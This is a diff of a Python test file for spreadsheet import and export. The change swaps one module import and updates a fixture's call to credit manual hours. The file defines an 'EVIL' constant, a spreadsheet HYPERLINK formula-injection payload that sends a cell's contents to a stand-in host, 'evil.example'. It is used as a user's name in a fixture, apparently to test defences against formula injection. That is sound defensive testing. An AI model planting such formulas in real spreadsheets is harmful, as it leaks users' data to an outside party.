@@ -13,7 +13,7 @@ from openpyxl import Workbook, load_workbook
 from app.core import spreadsheets
 from app.core.spreadsheets import ReadLimits, Sheet, SpreadsheetError, read_rows
 from app.extensions import db
-from app.records import services as records
+from app.records import manual
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A3,"点击")'
 #: Memory one import may take for a hostile file: a bound, not a timing.
@@ -195,7 +195,7 @@ def test_finding4_the_csv_writer_streams_in_chunks():
 def evil_member(create_user, org_tree):
     coordinator = create_user("coordinator", "member", branch=org_tree["a"], name="赵组织")
     evil = create_user(branch=org_tree["a1"], name=EVIL)
-    records.credit_manual_hours(evil, Decimal("2"), "党课", coordinator)
+    manual.credit_manual_hours(evil, Decimal("2"), "党课", coordinator)
     db.session.commit()
     return coordinator, evil
 
